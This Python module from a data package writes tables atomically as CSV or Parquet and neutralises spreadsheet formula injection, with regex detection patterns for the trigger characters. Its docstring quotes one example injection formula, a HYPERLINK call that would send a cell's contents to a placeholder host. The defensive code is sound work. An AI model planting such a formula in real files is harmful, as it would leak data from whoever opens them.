"""Every table hipdata writes goes through here: CSV (formula-safe) or Parquet, atomically.

Spreadsheet programs (Excel, LibreOffice Calc, Google Sheets) run a CSV cell as a formula when it
starts with ``=``, ``+``, ``-`` or ``@`` (and tab / carriage return lead to the same in some
import paths): an id such as ``=HYPERLINK("http://x?"&A1)`` in an input file would otherwise
become a live formula in ``quarantine.csv`` or ``audit_indicators.csv`` on a clinic lead's
machine. Following the OWASP guidance on CSV injection, every *text* cell of a CSV written here
that begins with one of those characters gets a leading apostrophe ``'`` (spreadsheets show the
cell as the text after it). Numbers are never touched: columns with a numeric dtype are written
exactly as before, and a text cell that is a plain decimal number (``-3``, ``+2.5``, ``1e-3``)
is left as it is, because a spreadsheet reads it as that number, never as a formula.
"""

from __future__ import annotations

import os
import re
import uuid
from collections.abc import Mapping
from pathlib import Path

import numpy as np
import pandas as pd

FORMATS = {"csv": ".csv", "parquet": ".parquet"}

#: Characters that make a spreadsheet treat a leading cell as a formula (OWASP: ``= + - @``, tab,
#: carriage return), plus their full-width forms, which some spreadsheet locales fold into them.
FORMULA_TRIGGERS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
_SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
#: A trigger as the first character, or as the first non-blank one (a spreadsheet that trims
#: spaces on import would otherwise see the formula), or right after a ``;``, the separator a
#: spreadsheet in a semicolon locale splits an unquoted cell at.
_LEADING = re.compile(rf"^(?:[\t\r]|\s*[{_SIGNS}])")
_DANGEROUS = re.compile(rf"^(?:[\t\r]|\s*[{_SIGNS}])|;\s*[{_SIGNS}]")
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$")
_AFTER_SEMICOLON = re.compile(rf"(;\s*)(?=[{_SIGNS}])")


def neutralise_text(values: pd.Series) -> pd.Series:
    """Make text cells inert in a spreadsheet; non-text values are returned unchanged.

    A text cell is escaped when it begins with ``=``, ``+``, ``-``, ``@`` (or their full-width
    forms), a tab or a carriage return, also after leading blanks: it gets a leading apostrophe
    ``'``. A ``;`` followed by such a character inside a cell gets an apostrophe after it too
    (a spreadsheet set to split at ``;`` would start a new cell there). Cells that are plain
    decimal numbers (``-3``, ``+2.5``, ``-1e-3``) are not formulas and stay as they are.

    Parameters
    ----------
    values : Series
        Any column; only its ``str`` elements can change.

    Returns
    -------
    Series
        A copy with the escaped text (same index and, for non-text columns, same dtype).

    Examples
    --------
    >>> import pandas as pd
    >>> neutralise_text(pd.Series(["=1+1", "-2+3", "-3", "@SUM(A1)", "C1", "x;=2"])).tolist()
    ["'=1+1", "'-2+3", '-3', "'@SUM(A1)", 'C1', "x;'=2"]
    """
    if not (
        pd.api.types.is_object_dtype(values.dtype)
        or pd.api.types.is_string_dtype(values.dtype)
        or isinstance(values.dtype, pd.CategoricalDtype)
    ):
        return values
    values = values.astype(object) if isinstance(values.dtype, pd.CategoricalDtype) else values
    cells = values.astype(object)
    if pd.api.types.infer_dtype(cells, skipna=True) in ("string", "empty"):
        is_text = cells.notna().to_numpy()
    else:  # mixed objects: only the str elements are text
        is_text = cells.map(lambda value: isinstance(value, str)).to_numpy(dtype=bool)
    if not is_text.any():
        return values
    # the rules run once per distinct text (ids and names repeat down a table)
    codes, uniques = pd.factorize(cells[is_text])
    distinct = pd.Series(uniques, dtype=object)
    dangerous = distinct.str.contains(_DANGEROUS) & ~distinct.str.fullmatch(_PLAIN_NUMBER)
    if not dangerous.any():
        return values
    fixed = distinct.copy()
    risky = distinct[dangerous]
    escaped = risky.str.replace(_AFTER_SEMICOLON, r"\1'", regex=True)
    fixed[dangerous] = escaped.where(~risky.str.contains(_LEADING), "'" + escaped)
    out = cells.to_numpy(copy=True)
    out[np.flatnonzero(is_text)] = fixed.to_numpy()[codes]
    return pd.Series(out, index=values.index, name=values.name, dtype=object)


def csv_ready(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` shaped for the contract's CSV conventions, safe to open in a spreadsheet.

    Booleans become ``true`` / ``false`` (missing stays empty), float columns holding only whole
    numbers become nullable integers, so ``3.0`` is written ``3`` (a value written ``3`` reads
    back as the same number), and text cells (and column names) that a spreadsheet would run as
    a formula are escaped by :func:`neutralise_text`. Dates are formatted by
    :func:`write_tables`.
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        values = out.iloc[:, position]
        if pd.api.types.is_bool_dtype(values.dtype):
            words = np.where(values.fillna(False).astype(bool), "true", "false")
            out.isetitem(
                position,
                pd.Series(words, index=out.index, dtype="object").where(values.notna(), None),
            )
        elif pd.api.types.is_float_dtype(values.dtype):
            present = values.dropna()
            if np.isfinite(present).all() and (present == np.round(present)).all():
                out.isetitem(position, values.round().astype("Int64"))
        else:
            out.isetitem(position, neutralise_text(values))
    out.columns = neutralise_text(pd.Series(list(out.columns), dtype=object)).tolist()
    return out


def write_csv(frame: pd.DataFrame, path: str | os.PathLike) -> Path:
    """Write one table as a formula-safe CSV (CONTRACT §5 conventions), atomically.

    The one CSV writer of hipdata: :func:`write_tables`, the CLI and the reports all end here.
    Dates are written ``YYYY-MM-DD``, booleans ``true``/``false``, missing values as empty
    cells, whole-number columns without ``.0``; UTF-8, comma separated, ``\\n`` line ends.
    """
    path = Path(path)
    _atomic(path, lambda temp: _to_csv(frame, temp))
    return path


def _to_csv(frame: pd.DataFrame, target) -> None:
    csv_ready(frame).to_csv(
        target, index=False, date_format="%Y-%m-%d", na_rep="", lineterminator="\n"
    )


def _atomic(path: Path, write) -> None:
    # A hidden name in the same folder (os.replace is atomic only within one file system); not
    # mkstemp, whose 0600 mode would survive the rename and hide the table from other users.
    temp_name = path.with_name(f".{path.name}.{uuid.uuid4().hex}.tmp")
    try:
        write(temp_name)
        os.replace(temp_name, path)
    except BaseException:
        Path(temp_name).unlink(missing_ok=True)
        raise


def _write_one(frame: pd.DataFrame, path: Path, fmt: str) -> None:
    if fmt == "csv":
        _atomic(path, lambda temp: _to_csv(frame, temp))
    else:
        _atomic(path, lambda temp: frame.to_parquet(temp, index=False))


def write_tables(
    tables: Mapping[str, pd.DataFrame], out_dir: str | os.PathLike, *, format: str = "csv"
) -> dict[str, Path]:
    """Write each table as ``out_dir/<name>.csv`` (or ``.parquet``), creating ``out_dir``.

    Each file is written to a temporary name in ``out_dir`` and moved into place with
    :func:`os.replace`, so a reader never sees a half-written table and a failed write leaves the
    previous file intact. CSV follows CONTRACT §5: dates ``YYYY-MM-DD``, booleans
    ``true``/``false``, missing values empty, whole-number columns without ``.0``; UTF-8, comma
    separated; text cells that a spreadsheet would run as a formula get a leading ``'``
    (:func:`neutralise_text`). Parquet keeps the DataFrame's dtypes and values as they are (it is
    not opened as formulas).

    Parameters
    ----------
    tables : mapping of str to DataFrame
        Table name -> table, e.g. the result of :func:`hipdata.metrics.compute_all`.
    out_dir : path
        The output folder.
    format : {"csv", "parquet"}
        File format.

    Returns
    -------
    dict of str to Path
        Table name -> file written.
    """
    if format not in FORMATS:
        raise ValueError(f"unknown format {format!r}: use one of {', '.join(FORMATS)}")
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    written: dict[str, Path] = {}
    for name, frame in tables.items():
        if not name or Path(name).name != name or name.startswith("."):
            raise ValueError(f"table name {name!r} cannot be used as a file name")
        path = out_dir / f"{name}{FORMATS[format]}"
        _write_one(frame, path, format)
        written[name] = path
    return written
